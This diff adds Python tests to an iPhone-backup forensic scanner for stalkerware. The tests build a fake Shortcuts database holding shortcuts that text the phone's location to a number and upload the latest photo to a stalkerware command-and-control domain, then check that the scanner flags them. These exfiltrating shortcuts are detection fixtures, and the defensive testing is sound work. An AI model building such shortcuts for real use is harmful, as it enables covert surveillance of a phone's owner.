@@ -164,3 +164,72 @@ def test_a_damaged_tcc_is_a_gap(tmp_path):
     result = run(IphoneBackup, inputs={"ios": builder.build(tmp_path / "backup")}, offline=True)
     assert result.status is not Status.CLEAN
     assert any("privacy permissions" in gap and "damaged" in gap for gap in result.gaps)
+
+
+def shortcuts_db(shortcuts: list[tuple[str, list[dict]]]) -> bytes:
+    """Shortcuts.sqlite with the two tables MVT reads (ZSHORTCUT, ZSHORTCUTACTIONS)."""
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "Shortcuts.sqlite"
+        db = sqlite3.connect(path)
+        db.execute(
+            "CREATE TABLE ZSHORTCUT (Z_PK INTEGER PRIMARY KEY, ZNAME VARCHAR, ZCREATIONDATE TIMESTAMP,"
+            " ZMODIFICATIONDATE TIMESTAMP, ZACTIONSDESCRIPTION VARCHAR)"
+        )
+        db.execute("CREATE TABLE ZSHORTCUTACTIONS (Z_PK INTEGER PRIMARY KEY, ZSHORTCUT INTEGER, ZDATA BLOB)")
+        for number, (name, actions) in enumerate(shortcuts, 1):
+            db.execute("INSERT INTO ZSHORTCUT VALUES (?, ?, 750000000, 755000000, NULL)", (number, name))
+            db.execute(
+                "INSERT INTO ZSHORTCUTACTIONS VALUES (?, ?, ?)",
+                (number, number, plistlib.dumps(actions, fmt=plistlib.FMT_BINARY) if actions else b"junk"),
+            )
+        db.commit()
+        db.close()
+        return path.read_bytes()
+
+
+def action(identifier: str, **parameters: object) -> dict:
+    return {"WFWorkflowActionIdentifier": identifier, "WFWorkflowActionParameters": parameters}
+
+
+def test_shortcuts_that_gather_and_send_are_findings(tmp_path):
+    from checks.ios.sources.shortcuts import SHORTCUTS_DOMAIN, SHORTCUTS_PATH
+
+    indicators = make_context("x").indicators
+    c2 = next(d for d, t in indicators.domains.items() if t.kind.value == "stalkerware")
+    db = shortcuts_db(
+        [
+            (
+                "On my way",
+                [
+                    action("is.workflow.actions.getcurrentlocation"),
+                    action(
+                        "is.workflow.actions.sendmessage", WFSendMessageActionRecipients=["+44 7700 900123"]
+                    ),
+                ],
+            ),
+            (
+                "Sync",
+                [
+                    action("is.workflow.actions.getlastphoto"),
+                    action("is.workflow.actions.downloadurl", WFURL=f"https://{c2}/upload"),
+                ],
+            ),
+            ("Timer", [action("is.workflow.actions.timer.start")]),
+            ("Broken", []),
+        ]
+    )
+    builder = BackupBuilder(ios_version="26.1").add_file(SHORTCUTS_DOMAIN, SHORTCUTS_PATH, db)
+    result = run(IphoneBackup, inputs={"ios": builder.build(tmp_path / "backup")}, offline=True)
+    found = {
+        f.evidence[0].fields["shortcut"]: f for f in result.findings if f.code.startswith("ios.shortcut")
+    }
+    assert sorted(found) == ["On my way", "Sync"]
+    assert (
+        found["On my way"].code == "ios.shortcut.sends-out" and found["On my way"].severity is Severity.MEDIUM
+    )
+    assert "+44 7700 900123" in found["On my way"].evidence[0].fields["sends to"]
+    assert (
+        found["Sync"].code == "ios.shortcut.listed-destination" and found["Sync"].severity is Severity.URGENT
+    )
+    assert any("3 shortcuts" in line for line in result.looked_at)
+    assert any("1 shortcuts could not be read" in gap for gap in result.gaps)
